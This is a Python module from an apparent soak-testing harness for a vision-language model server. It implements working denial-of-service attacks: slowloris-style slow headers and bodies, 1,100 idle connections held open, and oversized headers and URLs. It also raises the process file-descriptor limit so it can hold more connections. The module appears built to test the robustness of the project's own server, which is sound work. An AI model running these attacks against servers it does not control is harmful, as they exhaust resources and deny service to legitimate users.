"""Attacks that need no token: they never finish a request."""

from __future__ import annotations

import resource
import selectors
import socket
import time

from auras_ros.live.soak_vlm.attacks.target import AttackTarget
from auras_ros.live.soak_vlm.client import HOST

START = f"GET /health HTTP/1.1\r\nHost: {HOST}\r\n".encode()
PIECE = 1 << 16
HEADER_BYTES = 120 << 20  # of one header
FIELDS_BYTES = 20 << 20  # of short headers
URL_BYTES = 30 << 20
SLOW_BODIES = 24
BODY_BYTES = 1 << 20  # announced by each of them
IDLE = 1100  # connections that send nothing
SPARE_DESCRIPTORS = 64
TURN_S = 0.05  # between two looks at connections that are held


def headers(target: AttackTarget) -> None:
    """One header of 120 MB, then 20 MB of headers of three letters."""
    _send_endless(target, START + b"X-Large: ", b"a" * PIECE, HEADER_BYTES)
    _send_endless(target, START, b"x:y\r\n" * (PIECE // 5), FIELDS_BYTES)


def long_url(target: AttackTarget) -> None:
    """A URL of 30 MB."""
    _send_endless(target, b"GET /", b"a" * PIECE, URL_BYTES)


def slow_bodies(target: AttackTarget) -> None:
    """24 connections announce bodies, of which one byte comes a second."""
    head = f"POST /v1/chat/completions HTTP/1.1\r\nHost: {HOST}\r\nContent-Type: application/json\r\n"
    head += f"Content-Length: {BODY_BYTES}\r\n"
    head += f"Authorization: Bearer {target.token}\r\n" if target.token else ""
    _hold_connections(target, SLOW_BODIES, head.encode() + b"\r\n", trickle=b" ")


def idle_connections(target: AttackTarget) -> None:
    """1,100 connections that send nothing; one that is closed is opened again."""
    _allow_descriptors(IDLE + SPARE_DESCRIPTORS)
    _hold_connections(target, IDLE, b"", trickle=b"")


def slow_headers(target: AttackTarget) -> None:
    """1,100 connections whose headers come one byte a second."""
    _allow_descriptors(IDLE + SPARE_DESCRIPTORS)
    _hold_connections(target, IDLE, START, trickle=b"x")


def _allow_descriptors(count: int) -> None:
    """Raises the soft limit of this process as far as it may."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft != resource.RLIM_INFINITY and soft < count:
        wanted = count if hard == resource.RLIM_INFINITY else min(count, hard)
        resource.setrlimit(resource.RLIMIT_NOFILE, (wanted, hard))


def _send_endless(target: AttackTarget, begin: bytes, piece: bytes, size: int) -> None:
    """Sends `begin` and then `size` bytes of pieces, as quickly as the server takes them."""
    sent = 0
    try:
        with target.connect() as connection:
            connection.sendall(begin)
            while sent < size and target.is_running():
                connection.sendall(piece)
                sent += len(piece)
    except OSError:  # the server has closed it
        return


def _hold_connections(target: AttackTarget, count: int, begin: bytes, trickle: bytes) -> None:
    """Keeps `count` connections open that have sent `begin`. trickle: what each sends once a second."""
    held = set[socket.socket]()
    next_trickle_s = time.monotonic() + 1.0
    with selectors.DefaultSelector() as selector:
        try:
            while target.is_running():
                while len(held) < count and target.is_running():
                    connection = target.connect()
                    held.add(connection)
                    selector.register(connection, selectors.EVENT_READ)
                    connection.sendall(begin)
                closed = {key.fileobj for key, _ in selector.select(TURN_S)}  # an answer, or the end
                if trickle and time.monotonic() >= next_trickle_s:
                    next_trickle_s += 1.0
                    closed |= {connection for connection in held - closed if not _is_sent(connection, trickle)}
                for connection in held & closed:
                    selector.unregister(connection)
                    held.remove(connection)
                    connection.close()
        finally:
            for connection in held:
                connection.close()


def _is_sent(connection: socket.socket, data: bytes) -> bool:
    try:
        connection.sendall(data)
    except OSError:
        return False
    return True
